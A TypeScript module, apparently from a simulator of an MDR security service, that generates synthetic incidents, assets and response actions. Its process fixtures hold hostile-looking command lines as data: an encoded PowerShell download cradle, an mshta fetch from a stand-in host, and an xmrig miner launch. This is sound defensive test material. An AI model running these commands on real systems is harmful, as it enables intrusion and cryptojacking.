import { buildEstate, ESTATE_EPOCH_MS } from '../../sim/estate';
import { hashString, Random } from '../../sim/random';
import type * as wire from '../wire';

export const MITRE: readonly (readonly [string, readonly string[]])[] = [
  ['Initial access', ['T1566: Phishing', 'T1190: Exploit Public-Facing Application', 'T1078: Valid Accounts']],
  [
    'Execution',
    ['T1059: Command and Scripting Interpreter', 'T1204: User Execution', 'T1047: Windows Management Instrumentation'],
  ],
  [
    'Persistence',
    ['T1547: Boot or Logon Autostart Execution', 'T1053: Scheduled Task/Job', 'T1543: Create or Modify System Process'],
  ],
  ['Privilege escalation', ['T1134: Access Token Manipulation', 'T1068: Exploitation for Privilege Escalation']],
  ['Defense evasion', ['T1027: Obfuscated Files or Information', 'T1562: Impair Defenses', 'T1070: Indicator Removal']],
  [
    'Credential access',
    ['T1003: OS Credential Dumping', 'T1110: Brute Force', 'T1555: Credentials from Password Stores'],
  ],
  ['Discovery', ['T1087: Account Discovery', 'T1018: Remote System Discovery', 'T1082: System Information Discovery']],
  ['Lateral movement', ['T1021: Remote Services', 'T1570: Lateral Tool Transfer']],
  ['Collection', ['T1005: Data from Local System', 'T1560: Archive Collected Data']],
  [
    'Command and control',
    ['T1071: Application Layer Protocol', 'T1105: Ingress Tool Transfer', 'T1572: Protocol Tunneling'],
  ],
  ['Exfiltration', ['T1041: Exfiltration Over C2 Channel', 'T1567: Exfiltration Over Web Service']],
  ['Impact', ['T1486: Data Encrypted for Impact', 'T1490: Inhibit System Recovery']],
];
const DETECTION = ['EDR', 'KATA', 'EPP', 'IDS', 'Sandbox', 'Threat hunting'];
const STAGES = [
  'Reconnaissance',
  'Delivery',
  'Exploitation',
  'Installation',
  'Command and control',
  'Actions on objectives',
];
const SUMMARIES = [
  'Suspicious PowerShell execution with encoded command',
  'Credential dumping attempt from LSASS memory',
  'Phishing attachment launched a macro downloader',
  'Cobalt Strike beacon communication detected',
  'Ransomware precursor: shadow copies deleted',
  'Brute-force of RDP followed by a successful logon',
  'Scheduled task created for persistence',
  'Unusual outbound traffic to a rare domain',
  'Living-off-the-land binary used to download a payload',
  'Web shell activity on a public-facing server',
];
const AUTHORS = ['SOC Analyst Ivanova', 'SOC Analyst Petrov', 'MDR Service', 'Tier 2 Analyst Chen'];
/** Response types as the simulator spells them (README.md: only RUN_SCRIPT is confirmed). */
export const RESPONSE_TYPES = [
  'RUN_SCRIPT',
  'ISOLATE_HOST',
  'QUARANTINE_FILE',
  'DELETE_FILE',
  'KILL_PROCESS',
  'COPY_FILE_TO_SOC',
  'PREVENTION',
];

export const DAY = 86_400_000;

/** Files a SOC asks to copy, quarantine, delete or block: paths by OS family, as an attack leaves them. */
const ARTIFACTS = {
  windows: [
    'C:\\Users\\Public\\Downloads\\invoice_2211.js',
    'C:\\ProgramData\\Microsoft\\Crypto\\RSA\\svchost32.exe',
    'C:\\Windows\\Temp\\rclone.exe',
    'C:\\Users\\Public\\Libraries\\update.dll',
    'C:\\Windows\\System32\\Tasks\\OneDriveSync.xml',
    'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\shell.aspx',
  ],
  linux: ['/tmp/.X11-unix/.kworker', '/var/tmp/kinsing', '/dev/shm/.x/xmrig', '/etc/cron.d/.sysupdate'],
};
const PROCESSES: Record<'windows' | 'linux', readonly (readonly [string, string, string])[]> = {
  windows: [
    [
      'powershell.exe',
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    ],
    [
      'rundll32.exe',
      'C:\\Windows\\System32\\rundll32.exe',
      'C:\\Users\\Public\\Libraries\\update.dll,DllRegisterServer',
    ],
    ['svchost32.exe', 'C:\\ProgramData\\Microsoft\\Crypto\\RSA\\svchost32.exe', '-k netsvcs'],
    ['mshta.exe', 'C:\\Windows\\System32\\mshta.exe', 'https://cdn-update.example.net/p.hta'],
  ],
  linux: [
    ['kinsing', '/var/tmp/kinsing', ''],
    ['xmrig', '/dev/shm/.x/xmrig', '--donate-level 1 -o pool.example.net:3333'],
  ],
};

/** `length` hex digits, eight per draw (the simulated estate draws tens of thousands of hashes). */
function hex(rng: Random, length: number): string {
  let out = '';
  while (out.length < length) out += (Math.floor(rng.next() * 2 ** 32) >>> 0).toString(16).padStart(8, '0');
  return out.slice(0, length);
}

/**
 * What a proposed response acts on, in MDR's `details` (and `parameters` where the vendor puts
 * them): drawn from the response's own id so adding targets shifts no other simulated data.
 */
function responseTarget(
  type: string,
  responseId: string,
  asset: wire.Asset,
  isolationHours: number,
): Pick<wire.Response, 'details' | 'parameters'> {
  const r = new Random(`mdr:response:${responseId}`);
  const family = /windows/i.test(asset.os_version ?? '') ? 'windows' : 'linux';
  const file = r.pick(ARTIFACTS[family]);
  const hashes = () => ({ md5: hex(r, 32), sha256: hex(r, 64) });
  switch (type) {
    case 'COPY_FILE_TO_SOC':
      return { details: { file_path: file, file_size_limit: r.pick([10, 50, 100]) }, parameters: null };
    case 'QUARANTINE_FILE':
    case 'DELETE_FILE':
      return { details: { file_path: file, ...hashes() }, parameters: null };
    case 'PREVENTION':
      return { details: { file_path: file, ...hashes() }, parameters: null };
    case 'KILL_PROCESS': {
      const [name, path, args] = r.pick(PROCESSES[family]);
      return {
        details: {
          process_id: r.int(400, 65_000),
          process_name: name,
          file_path: path,
          command_line: args ? `"${path}" ${args}` : path,
          sha256: hex(r, 64),
        },
        parameters: null,
      };
    }
    case 'RUN_SCRIPT':
      return family === 'windows'
        ? {
            details: { file_path: 'C:\\ProgramData\\Kaspersky Lab\\MDR\\collect_triage.ps1', file_size_limit: 0 },
            parameters: { interpreter: 'powershell', workingDirectory: 'C:\\Windows', interpreterParameters: null },
          }
        : {
            details: { file_path: '/opt/kaspersky/mdr/collect_triage.sh', file_size_limit: 0 },
            parameters: { interpreter: 'bash', workingDirectory: '/tmp', interpreterParameters: null },
          };
    case 'ISOLATE_HOST':
      return { details: {}, parameters: { isolation_period_s: 3600 * isolationHours } };
    default:
      return { details: {}, parameters: null };
  }
}

/** The id alphabet of the vendor's 20-character (Elasticsearch-style) incident ids. */
const ID_ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
export function esId(rng: Random): string {
  let id = '';
  // Five 6-bit characters per draw: start-up builds tens of thousands of ids.
  for (let i = 0; i < 4; i++) {
    let bits = Math.floor(rng.next() * 2 ** 30);
    for (let j = 0; j < 5; j++, bits >>>= 6) id += ID_ALPHABET[bits & 63];
  }
  return id;
}

function uuid(rng: Random): string {
  const h = [0, 1, 2, 3]
    .map(() =>
      Math.floor(rng.next() * 2 ** 32)
        .toString(16)
        .padStart(8, '0'),
    )
    .join('');
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-a${h.slice(17, 20)}-${h.slice(20, 32)}`;
}

export function buildAssets(seed: number, scale: number): wire.Asset[] {
  const rng = new Random(seed).fork('mdr:assets');
  return buildEstate(seed, scale)
    .machines.filter((m) => m.inMdr)
    .map((m) => {
      const lastSeen = ESTATE_EPOCH_MS - rng.int(0, 20 * DAY);
      const r = rng.next();
      const status = r < 0.7 ? 'OK' : r < 0.82 ? 'WARNING' : r < 0.88 ? 'CRITICAL' : r < 0.96 ? 'OFFLINE' : 'ABSENT';
      const extraIp = rng.chance(0.15) ? `|192.168.${rng.int(0, 255)}.${rng.int(1, 254)}` : '';
      return {
        asset_id: `0x${new Random(hashString(`mdr:${seed}:${m.hostName}`)).hex(32).toUpperCase()}`,
        host_name: m.hostName,
        domain: m.domain,
        os_version: `${m.osName} ${m.osVersion}`,
        status,
        isolation: rng.chance(0.02),
        installed_product_info:
          m.osFamily === 'Windows'
            ? 'Kaspersky Endpoint Security for Windows 12.6'
            : 'Kaspersky Endpoint Security for Linux 12.1',
        network_interfaces: [
          { ip: `${m.ipAddress}${extraIp}`, mac: m.macAddress, dsc: 'Ethernet', defg: '', dnsd: m.domain, ipcm: '' },
        ],
        tenant_name: m.tenant,
        first_seen: m.firstSeen,
        last_seen: Math.max(lastSeen, m.firstSeen),
      };
    });
}

function description(rng: Random, summary: string, host: string, techniques: string[]): string {
  return [
    `## ${summary}`,
    `Activity was observed on **${host}**. The SOC confirmed it as malicious behaviour.`,
    techniques.map((t) => `- ${t}`).join('\n'),
    `Recommended: review \`${rng.pick(['powershell.exe', 'rundll32.exe', 'mshta.exe', 'certutil.exe'])}\` executions on the host.`,
  ].join('\n\n');
}

/** One incident, drawn only from (seed, index): any incident can be rebuilt without the others. */
export function buildIncident(
  seed: number,
  index: number,
  total: number,
  assets: readonly wire.Asset[],
): wire.Incident {
  const rng = new Random(hashString(`mdr:${seed}:incident:${index}`));
  // Creation times rise with the index, about 1.5 incidents per hour up to the epoch; a few share a
  // millisecond so the (creation_time, incident_id) tiebreak matters.
  const creation =
    ESTATE_EPOCH_MS -
    (total - index) * 2_400_000 +
    (index % 7 === 3 ? -1_000 : 0) -
    (index % 7 === 4 ? 2_400_000 + 1_000 : 0);
  // Distinct indices drawn directly: copying the asset list per incident made start-up slow.
  const want = Math.min(assets.length, rng.chance(0.8) ? 1 : rng.int(2, 4));
  const picked = new Set<number>();
  while (picked.size < want) picked.add(rng.int(0, assets.length - 1));
  const hosts = [...picked].map((i) => assets[i]!);
  const tenant = hosts[0]!.tenant_name ?? '';
  const tactics = rng.sample(MITRE, rng.int(1, 3));
  const techniques = tactics.map(([, ts]) => rng.pick(ts));
  const summary = rng.pick(SUMMARIES);
  const age = ESTATE_EPOCH_MS - creation;
  const status = age < 3 * DAY ? rng.pick(['Open', 'Open', 'On hold']) : rng.pick(['Resolved', 'Closed', 'Closed']);
  const resolution = status === 'Closed' ? (rng.chance(0.7) ? 'True positive' : 'False positive') : '';
  const update = creation + rng.int(60_000, Math.max(60_001, Math.min(age, 5 * DAY)));
  const incidentId = esId(rng);
  const responses: wire.Response[] = Array.from({ length: rng.int(0, 3) }, () => {
    const type = rng.pick(RESPONSE_TYPES);
    const asset = rng.pick(hosts);
    const state =
      status === 'Open'
        ? rng.chance(0.6)
          ? 'Waiting'
          : rng.pick(['Confirmed', 'Declined'])
        : rng.pick(['Confirmed', 'Declined', 'Confirmed']);
    const t = creation + rng.int(60_000, 3_600_000);
    const responseId = `MDR_${uuid(rng)}`;
    const isolationHours = type === 'ISOLATE_HOST' ? rng.int(1, 24) : 0;
    return {
      response_id: responseId,
      incident_id: incidentId,
      type,
      status: state,
      asset_id: asset.asset_id,
      comment: state === 'Declined' ? 'Automatically rejected, because the task timeout has expired' : '',
      description: `${type.replace(/_/g, ' ').toLowerCase()} on ${asset.host_name}`,
      ...responseTarget(type, responseId, asset, isolationHours),
      creation_time: t,
      update_time: state === 'Waiting' ? t : t + rng.int(60_000, 3_600_000),
      was_read: rng.chance(0.5),
    };
  });
  const comments: wire.Comment[] = Array.from({ length: rng.int(0, 3) }, (_, i) => ({
    comment_id: esId(rng),
    author_name: rng.pick(AUTHORS),
    text:
      i === 0
        ? `Initial triage done for **${hosts[0]!.host_name}**.\n\nNext: check \`autoruns\` output.`
        : 'Customer notified; waiting for confirmation.',
    creation_time: creation + (i + 1) * rng.int(60_000, 7_200_000),
    origin: 'Service',
    was_read: rng.chance(0.5),
  }));
  return {
    incident_id: incidentId,
    incident_number: 1_300_000 + index,
    summary,
    description: description(rng, summary, hosts[0]!.host_name, techniques),
    client_description: '',
    status_description: status === 'Closed' ? 'Closed by SOC after confirmation.' : '',
    priority: rng.pick(['LOW', 'NORMAL', 'NORMAL', 'HIGH']),
    status,
    resolution,
    affected_hosts: hosts.map((a) => `${a.host_name}:${a.asset_id}`),
    detection_technology: rng.pick(DETECTION),
    attack_stage: rng.pick(STAGES),
    mitre_tactics: tactics.map(([t]) => t),
    mitre_techniques: techniques,
    creation_time: creation,
    update_time: update,
    origin: 'Service',
    tenant_name: tenant,
    was_read: rng.chance(0.6),
    responses,
    comments,
  };
}

export function buildIncidents(seed: number, scale: number, assets: readonly wire.Asset[]): wire.Incident[] {
  const total = Math.max(10, Math.round(10_000 * scale));
  return Array.from({ length: total }, (_, i) => buildIncident(seed, i, total, assets));
}

export function defaultClientId(seed: number): string {
  return new Random(hashString(`mdr:client:${seed}`)).hex(32);
}
